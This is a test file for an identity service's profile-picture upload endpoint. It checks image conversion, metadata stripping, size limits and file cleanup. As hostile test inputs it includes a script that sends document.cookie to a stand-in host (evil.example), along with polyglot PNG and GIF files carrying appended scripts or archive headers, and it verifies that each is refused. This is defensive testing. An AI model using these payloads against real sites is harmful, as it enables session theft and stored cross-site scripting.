import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { multipartBody, silentLogger, TestEventBus } from '@linksmate/platform/testing';
import { PROFILE_TEXT_MESSAGES, UPLOAD_MESSAGES } from '@linksmate/proto';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp, loadIdentityConfig } from '../src';
import { type IdentityUnderTest, SERVICE_TOKEN, startIdentity } from './fixtures';

type Person = { id: number; token: string };

/** A multipart body as a browser's FormData sends it (platform's, shared by every upload test). */
const multipart = multipartBody;

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 30, g: 120, b: 60 } } });

/** Noise does not compress: a real picture of a known size in bytes. */
const noise = (width: number, height: number) =>
  sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } });

describe('identity: profile picture uploads', () => {
  let identity: IdentityUnderTest;
  let me: Person;
  let other: Person;

  const upload = (
    person: Person | null,
    data: Buffer | string,
    filename = 'photo.png',
    contentType = 'image/png',
    field = 'image',
  ) => {
    const body = multipart([{ name: field, filename, contentType, data }]);
    return identity.app.inject({
      method: 'POST',
      url: '/upload/profile-image',
      payload: body.payload,
      headers: {
        'content-type': body.contentType,
        ...(person ? { authorization: `Bearer ${person.token}` } : {}),
      },
    });
  };
  const put = (person: Person, payload: object) =>
    identity.app.inject({
      method: 'PUT',
      url: '/profile',
      payload,
      headers: { authorization: `Bearer ${person.token}` },
    });
  /** The file a served URL stands for, in the test's uploads folder. */
  const fileOf = (url: string) => join(identity.uploadsDir, url.replace(/^\/uploads\//, ''));
  const storedFiles = (): string[] => {
    const walk = (dir: string): string[] =>
      existsSync(dir)
        ? readdirSync(dir, { withFileTypes: true }).flatMap((entry) =>
            entry.isDirectory()
              ? walk(join(dir, entry.name))
              : [relative(identity.uploadsDir, join(dir, entry.name))],
          )
        : [];
    return walk(identity.uploadsDir).sort();
  };
  const rowsOf = async (userId: number) =>
    (
      await identity.pool.query<{ state: string; url: string }>(
        'select state, url from profile_images where user_id = $1 order by id',
        [userId],
      )
    ).rows;

  /** What a refused upload must leave behind: no new row and no new file. */
  async function expectNothingStored<R>(attempt: () => Promise<R>): Promise<R> {
    const files = storedFiles();
    const rows = await rowsOf(me.id);
    const res = await attempt();
    expect(storedFiles()).toEqual(files);
    expect(await rowsOf(me.id)).toEqual(rows);
    return res;
  }

  beforeAll(async () => {
    identity = await startIdentity();
    me = await identity.verifiedUser('picture_me', 'picture.me@example.com');
    other = await identity.verifiedUser('picture_other', 'picture.other@example.com');
    await identity.setUser(me.id, { firstName: 'Ava', lastName: 'Nguyen' });
    await identity.setUser(other.id, { firstName: 'Noah', lastName: 'Smith' });
  });

  afterAll(() => identity?.close());

  it('when no token is sent, then the upload is refused with 401 and nothing is stored', async () => {
    const png = await solid(64, 64).png().toBuffer();
    const res = await expectNothingStored(() => upload(null, png));
    expect(res.statusCode).toBe(401);
  });

  it('when a PNG is uploaded, then a display size and a square thumbnail are stored as WebP and a pending row is kept', async () => {
    const png = await solid(3000, 1500).png().toBuffer();
    const res = await upload(me, png);
    expect(res.statusCode).toBe(200);
    const { url, thumbnail_url } = res.json();
    expect(url).toMatch(/^\/uploads\/profile-images\/[0-9a-f-]{36}\.webp$/);
    expect(thumbnail_url).toMatch(/^\/uploads\/profile-images\/[0-9a-f-]{36}-thumb\.webp$/);
    const display = await sharp(readFileSync(fileOf(url))).metadata();
    expect(display).toMatchObject({ format: 'webp', width: 1024, height: 512 });
    const thumbnail = await sharp(readFileSync(fileOf(thumbnail_url))).metadata();
    expect(thumbnail).toMatchObject({ format: 'webp', width: 256, height: 256 });
    expect(await rowsOf(me.id)).toContainEqual({ state: 'pending', url });
  });

  it('when a JPEG carries EXIF (orientation, owner, place), then it is stored upright with no metadata left', async () => {
    // 400×200 pixels that a viewer turns a quarter: a 200×400 portrait.
    const jpeg = await solid(400, 200)
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExif({ IFD0: { Copyright: 'Secret Owner', Artist: 'Secret Artist' } })
      .toBuffer();
    expect((await sharp(jpeg).metadata()).exif).toBeDefined();
    const res = await upload(me, jpeg, 'camera.jpg', 'image/jpeg');
    expect(res.statusCode).toBe(200);
    const stored = readFileSync(fileOf(res.json().url));
    const metadata = await sharp(stored).metadata();
    expect(metadata).toMatchObject({ format: 'webp', width: 200, height: 400 });
    expect(metadata.exif).toBeUndefined();
    expect(metadata.icc).toBeUndefined();
    expect(metadata.xmp).toBeUndefined();
    expect(metadata.orientation).toBeUndefined();
    expect(stored.toString('latin1')).not.toContain('Secret');
  });

  it('when a GIF or a WebP, still or animated, is uploaded, then each is accepted and kept as one still picture', async () => {
    const frames = await Promise.all([solid(300, 200).png().toBuffer(), noise(300, 200).png().toBuffer()]);
    const animated = () => sharp(frames, { join: { animated: true } });
    for (const [bytes, name] of [
      [await solid(300, 200).gif().toBuffer(), 'still.gif'],
      [
        await animated()
          .gif({ loop: 0, delay: [100, 100] })
          .toBuffer(),
        'animated.gif',
      ],
      [await solid(300, 200).webp().toBuffer(), 'still.webp'],
      [await animated().webp({ loop: 0 }).toBuffer(), 'animated.webp'],
    ] as const) {
      const res = await upload(me, bytes, name, 'application/octet-stream');
      expect(res.statusCode, name).toBe(200);
      const metadata = await sharp(readFileSync(fileOf(res.json().url)), { pages: -1 }).metadata();
      expect(metadata, name).toMatchObject({ format: 'webp', width: 300, height: 200 });
      expect(metadata.pages ?? 1, name).toBe(1);
    }
  });

  it('when a script is sent as photo.png with an image type, then it is refused as not an image and nothing is stored', async () => {
    const res = await expectNothingStored(() =>
      upload(
        me,
        '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
        'photo.png',
        'image/png',
      ),
    );
    expect(res.statusCode).toBe(415);
    expect(res.json()).toMatchObject({
      error: UPLOAD_MESSAGES.invalidImageType,
      errors: { image: UPLOAD_MESSAGES.invalidImageType },
    });
  });

  it('when a real PNG carries a script or an archive after its end, or markup inside, then it is refused as a polyglot', async () => {
    const png = await solid(32, 32).png().toBuffer();
    const withText = await solid(32, 32)
      .png()
      .withMetadata()
      .withExif({ IFD0: { ImageDescription: '<script>alert(1)</script>' } })
      .toBuffer();
    for (const [bytes, label] of [
      [Buffer.concat([png, Buffer.from('<script>alert(document.domain)</script>')]), 'script appended'],
      [Buffer.concat([png, Buffer.from('PK\u0003\u0004 an archive follows')]), 'archive appended'],
      [withText, 'markup in its metadata'],
      [
        Buffer.concat([await solid(32, 32).gif().toBuffer(), Buffer.from('PK\u0003\u0004')]),
        'GIF with archive',
      ],
    ] as const) {
      const res = await expectNothingStored(() => upload(me, bytes));
      expect(res.statusCode, label).toBe(415);
      expect(res.json().error, label).toBe(UPLOAD_MESSAGES.invalidImageType);
    }
  });

  it('when a file only begins like an image, or is cut short, then it is refused as unreadable and nothing is stored', async () => {
    const jpeg = await noise(300, 300).jpeg().toBuffer();
    const png = await noise(300, 300).png().toBuffer();
    for (const [bytes, label] of [
      [jpeg.subarray(0, Math.floor(jpeg.length / 2)), 'truncated JPEG'],
      [png.subarray(0, Math.floor(png.length / 2)), 'truncated PNG'],
      [Buffer.from('GIF89a=1;alert(document.domain)//'), 'GIF-headed script'],
      [Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0, 0, 0]), 'JPEG signature only'],
    ] as const) {
      const res = await expectNothingStored(() => upload(me, bytes));
      expect(res.statusCode, label).toBe(422);
      expect(res.json(), label).toMatchObject({
        error: UPLOAD_MESSAGES.unreadableImage,
        errors: { image: UPLOAD_MESSAGES.unreadableImage },
      });
    }
  });

  it('when the picture is larger than 5 MB, then it is refused with 413 and the spec’s message, and nothing is stored', async () => {
    const big = await noise(1500, 1500).png({ compressionLevel: 0 }).toBuffer();
    expect(big.length).toBeGreaterThan(5 * 1024 * 1024);
    const res = await expectNothingStored(() => upload(me, big));
    expect(res.statusCode).toBe(413);
    expect(res.json()).toMatchObject({ error: 'File too large. Maximum size is 5MB.' });
  });

  it('when the picture is not in the field `image`, or the body is not multipart, then 400 says to select an image', async () => {
    const png = await solid(16, 16).png().toBuffer();
    const wrongField = await expectNothingStored(() => upload(me, png, 'photo.png', 'image/png', 'photo'));
    expect(wrongField.statusCode).toBe(400);
    expect(wrongField.json().error).toBe(UPLOAD_MESSAGES.invalidImageSelection);
    const json = await identity.app.inject({
      method: 'POST',
      url: '/upload/profile-image',
      payload: { image: png.toString('base64') },
      headers: { authorization: `Bearer ${me.token}` },
    });
    expect(json.statusCode).toBe(400);
    const broken = await identity.app.inject({
      method: 'POST',
      url: '/upload/profile-image',
      payload: 'not really multipart',
      headers: { authorization: `Bearer ${me.token}`, 'content-type': 'multipart/form-data; boundary=x' },
    });
    expect(broken.statusCode).toBe(400);
  });

  it('when the store fails, then the upload answers 503 and leaves no row and no file', async () => {
    const folder = join(identity.uploadsDir, 'profile-images');
    const aside = `${folder}-aside`;
    mkdirSync(folder, { recursive: true });
    renameSync(folder, aside);
    // A file where the folder should be: every write into it fails.
    writeFileSync(folder, 'not a folder');
    try {
      const rows = await rowsOf(me.id);
      const res = await upload(me, await solid(64, 64).png().toBuffer());
      expect(res.statusCode).toBe(503);
      expect(res.json().error).toBe('Upload failed');
      expect(await rowsOf(me.id)).toEqual(rows);
    } finally {
      rmSync(folder);
      renameSync(aside, folder);
    }
  });

  it('when the row cannot be written, then no file is stored either', async () => {
    await identity.pool.query('alter table profile_images add constraint refuse_all check (false) not valid');
    try {
      const png = await solid(64, 64).png().toBuffer();
      const res = await expectNothingStored(() => upload(me, png));
      expect(res.statusCode).toBe(500);
    } finally {
      await identity.pool.query('alter table profile_images drop constraint refuse_all');
    }
  });

  describe('taking, replacing and removing the picture through PUT /profile', () => {
    const uploadPicture = async (person: Person) => {
      const res = await upload(person, await solid(120, 90).png().toBuffer());
      expect(res.statusCode).toBe(200);
      return res.json() as { url: string; thumbnail_url: string };
    };

    it('when the profile takes an own upload, then it is shown and attached; replacing it deletes the old files', async () => {
      const first = await uploadPicture(me);
      const taken = await put(me, { profile_image_url: first.url });
      expect(taken.statusCode).toBe(200);
      expect(taken.json().user.profile_image_url).toBe(first.url);
      expect(await rowsOf(me.id)).toContainEqual({ state: 'attached', url: first.url });

      const second = await uploadPicture(me);
      const replaced = await put(me, { profile_image_url: second.url });
      expect(replaced.statusCode).toBe(200);
      expect(replaced.json().user.profile_image_url).toBe(second.url);
      expect(existsSync(fileOf(first.url))).toBe(false);
      expect(existsSync(fileOf(first.thumbnail_url))).toBe(false);
      expect(existsSync(fileOf(second.url))).toBe(true);
      expect(existsSync(fileOf(second.thumbnail_url))).toBe(true);
      const rows = await rowsOf(me.id);
      expect(rows.map((r) => r.url)).not.toContain(first.url);
      expect(rows).toContainEqual({ state: 'attached', url: second.url });

      // A picture let go cannot be taken back: it has to be uploaded again.
      const back = await put(me, { profile_image_url: first.url });
      expect(back.statusCode).toBe(422);
      expect(back.json().errors).toEqual({ profile_image_url: PROFILE_TEXT_MESSAGES.invalidImage });
    });

    it('when the picture is removed (null, or empty), then its files are deleted and the profile shows none', async () => {
      for (const none of [null, '']) {
        const picture = await uploadPicture(me);
        expect((await put(me, { profile_image_url: picture.url })).statusCode).toBe(200);
        const removed = await put(me, { profile_image_url: none });
        expect(removed.statusCode, removed.body).toBe(200);
        expect(removed.json().user.profile_image_url).toBeNull();
        expect(existsSync(fileOf(picture.url))).toBe(false);
        expect(existsSync(fileOf(picture.thumbnail_url))).toBe(false);
        expect((await rowsOf(me.id)).filter((r) => r.state === 'attached')).toEqual([]);
      }
    });

    it("when someone else's pending upload or any other URL is given, then 422 with the field error and nothing changes", async () => {
      const mine = await uploadPicture(me);
      expect((await put(me, { profile_image_url: mine.url })).statusCode).toBe(200);
      const theirs = await uploadPicture(other);
      for (const url of [
        theirs.url,
        'https://evil.example/track.png',
        '/uploads/profile-images/made-up.webp',
      ]) {
        const res = await put(me, { profile_image_url: url, first_name: 'Changed' });
        expect(res.statusCode, url).toBe(422);
        expect(res.json().errors, url).toEqual({ profile_image_url: PROFILE_TEXT_MESSAGES.invalidImage });
      }
      const profile = (await identity.get('/profile', me.token)).json().user;
      expect(profile).toMatchObject({ profile_image_url: mine.url, first_name: 'Ava' });
      expect(existsSync(fileOf(mine.url))).toBe(true);
      // Theirs is untouched and still theirs to take.
      expect(await rowsOf(other.id)).toContainEqual({ state: 'pending', url: theirs.url });
      expect(existsSync(fileOf(theirs.url))).toBe(true);
      expect((await put(other, { profile_image_url: theirs.url })).statusCode).toBe(200);
    });

    it('when a day passes without the profile taking an upload, then the sweep removes it with its files and keeps the attached one', async () => {
      const kept = (await identity.get('/profile', me.token)).json().user.profile_image_url as string;
      const forgotten = await uploadPicture(me);
      // identity started again a day later (its jobs run at start): same database, same store.
      const bus = new TestEventBus();
      await bus.start();
      const later = await buildApp(
        loadIdentityConfig({
          DATABASE_URL: identity.service.database.url,
          LOG_LEVEL: 'silent',
          SERVICE_TOKEN,
          STORAGE_DRIVER: 'local',
          UPLOADS_DIR: identity.uploadsDir,
        }),
        { bus, logger: silentLogger(), clock: () => new Date(Date.now() + 25 * 60 * 60 * 1000) },
      );
      try {
        await later.ready();
        await later.serviceRuntime.jobFirstRun('profile-image-sweep', 20_000);
      } finally {
        await later.close();
        await bus.close();
      }
      expect(existsSync(fileOf(forgotten.url))).toBe(false);
      expect(existsSync(fileOf(forgotten.thumbnail_url))).toBe(false);
      expect((await rowsOf(me.id)).map((r) => r.url)).not.toContain(forgotten.url);
      expect(existsSync(fileOf(kept))).toBe(true);
      expect(await rowsOf(me.id)).toContainEqual({ state: 'attached', url: kept });
    });
  });
});
